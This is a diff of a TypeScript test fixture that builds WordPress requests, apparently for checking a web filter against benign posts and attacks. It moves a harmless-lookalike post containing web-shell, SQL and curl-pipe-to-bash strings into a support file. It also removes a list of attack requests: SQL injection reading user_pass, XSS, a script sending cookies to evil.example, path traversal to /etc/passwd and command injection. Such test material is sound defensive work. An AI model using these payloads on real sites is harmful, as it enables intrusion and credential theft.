@@ -1,69 +1,13 @@
 /** Requests as WordPress 6 sends them: by its editors, its dashboard and its visitors. Written from its forms and its REST API. */
-import type { TrialRequest } from '../trial.ts'
-
-export type Shape = { readonly name: string; readonly request: TrialRequest }
-
-const host = 'blog.example'
-
-/** A post with everything that looks like an attack and is none. */
-const prose = [
-  '<!-- wp:paragraph {"align":"center","style":{"color":{"text":"#112233"}}} -->',
-  '<p class="has-text-align-center">To select items from the catalogue, where 1=1 -- and union members -- drop us a line; <a href="https://example.org/?a=1&amp;b=2" onclick="return true">here</a>.</p>',
-  '<!-- /wp:paragraph -->',
-  "<!-- wp:code --><pre class=\"wp-block-code\"><code>&lt;?php system($_GET[\"cmd\"]); ?&gt; SELECT * FROM users WHERE id = '1' OR '1'='1'; cat /etc/passwd | grep root; $(curl http://example.org/x.sh | bash)</code></pre><!-- /wp:code -->",
-  '<!-- wp:html --><iframe src="https://www.youtube.com/embed/abc" width="560"></iframe><script>document.write("hello")</script><style>@import url(x.css);</style><!-- /wp:html -->',
-].join('\n')
-
-type Sent = {
-  readonly method?: string
-  readonly uri: string
-  readonly type?: string
-  readonly body?: string
-  readonly headers?: readonly (readonly [string, string])[]
-}
-
-export function wordpressRequest({
-  method,
-  uri,
-  type,
-  body = '',
-  headers = [],
-}: Sent): TrialRequest {
-  const bytes = Buffer.from(body, 'utf8').toString('latin1')
-  return {
-    id: '018f0000-0000-7000-8000-000000000000',
-    at_ms: Date.UTC(2026, 0, 1),
-    client: '192.0.2.7',
-    method: method ?? (body === '' ? 'GET' : 'POST'),
-    uri,
-    http_version: '1.1',
-    headers: [
-      ['Host', host],
-      ['User-Agent', 'Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0'],
-      ['Accept', 'application/json, */*;q=0.1'],
-      ['Accept-Language', 'en-US,en;q=0.5'],
-      ['Accept-Encoding', 'gzip, deflate, br'],
-      ['Referer', `https://${host}/wp-admin/post.php?post=123&action=edit`],
-      [
-        'Cookie',
-        'wordpress_logged_in_0123456789abcdef=editor%7C1800000000%7Cq1w2e3r4t5%7C0a1b2c3d; wp-settings-1=libraryContent%3Dbrowse%26editor%3Dtinymce%26hidetb%3D1; wp-settings-time-1=1800000000; wordpress_test_cookie=WP%20Cookie%20check',
-      ],
-      ...headers,
-      ...(bytes === ''
-        ? []
-        : ([
-            ['Content-Type', type ?? 'application/x-www-form-urlencoded; charset=UTF-8'],
-            ['Content-Length', String(bytes.length)],
-            ['Origin', `https://${host}`],
-          ] as const)),
-    ],
-    body: bytes,
-  }
-}
-
-const form = (fields: Readonly<Record<string, string>>) => new URLSearchParams(fields).toString()
-const json = (value: unknown) => ({ type: 'application/json', body: JSON.stringify(value) })
-const override = (method: string) => [['X-HTTP-Method-Override', method]] as const
+import {
+  form,
+  json,
+  override,
+  prose,
+  type Sent,
+  type Shape,
+  wordpressRequest,
+} from './wordpress-request.support.ts'
 
 const sent: readonly (readonly [name: string, sent: Sent])[] = [
   [
@@ -364,80 +308,3 @@ export const honestShapes: readonly Shape[] = sent.map(([name, one]) => ({
   name,
   request: wordpressRequest(one),
 }))
-
-/** Attacks in the same places, in other parameters. */
-export const attackShapes: readonly Shape[] = (
-  [
-    [
-      'SQL in the number of a post',
-      {
-        uri: "/wp-json/wp/v2/posts/123?_locale=user&orderby=1'%20UNION%20SELECT%20user_pass%20FROM%20wp_users--",
-        ...json({ content: 'x' }),
-      },
-    ],
-    [
-      'a script in a field that no editor has',
-      {
-        uri: '/wp-json/wp/v2/posts/123',
-        ...json({ content: 'x', evil: '<script>alert(document.cookie)</script>' }),
-      },
-    ],
-    [
-      'SQL in admin-ajax',
-      {
-        uri: '/wp-admin/admin-ajax.php',
-        body: form({
-          action: 'plugin_search',
-          id: "1' UNION SELECT 1,user_pass,3 FROM wp_users-- -",
-        }),
-      },
-    ],
-    [
-      'a file of the system by admin-ajax',
-      { uri: '/wp-admin/admin-ajax.php?action=duplicator_download&file=../../../../etc/passwd' },
-    ],
-    [
-      'SQL in the name of who logs in',
-      {
-        uri: '/wp-login.php',
-        body: form({ log: "admin' UNION SELECT 1,2,3 FROM wp_users-- -", pwd: 'x' }),
-      },
-    ],
-    [
-      'a script in a comment',
-      {
-        uri: '/wp-comments-post.php',
-        body: form({
-          comment: '<script>document.location="https://evil.example/?"+document.cookie</script>',
-          author: 'x',
-        }),
-      },
-    ],
-    [
-      'a script in the name of a commenter',
-      {
-        uri: '/wp-comments-post.php',
-        body: form({ comment: 'x', author: '<script>alert(1)</script>' }),
-      },
-    ],
-    ['a command in a plugin', { uri: '/wp-content/plugins/x/run.php?cmd=;cat%20/etc/passwd' }],
-    [
-      'the editor’s parameter on another path',
-      {
-        uri: '/wp-content/plugins/x/save.php',
-        body: form({
-          content: "1' UNION SELECT user_pass FROM wp_users-- -<script>alert(1)</script>",
-        }),
-      },
-    ],
-    [
-      'a way around by dots',
-      {
-        uri: '/wp-admin/post.php/../../x.php',
-        body: form({ content: '<script>alert(document.cookie)</script>' }),
-      },
-    ],
-    ['a method that nobody needs', { method: 'TRACE', uri: '/wp-json/wp/v2/posts' }],
-    ['DELETE elsewhere', { method: 'DELETE', uri: '/wp-admin/post.php' }],
-  ] satisfies readonly (readonly [string, Sent])[]
-).map(([name, one]) => ({ name, request: wordpressRequest(one) }))
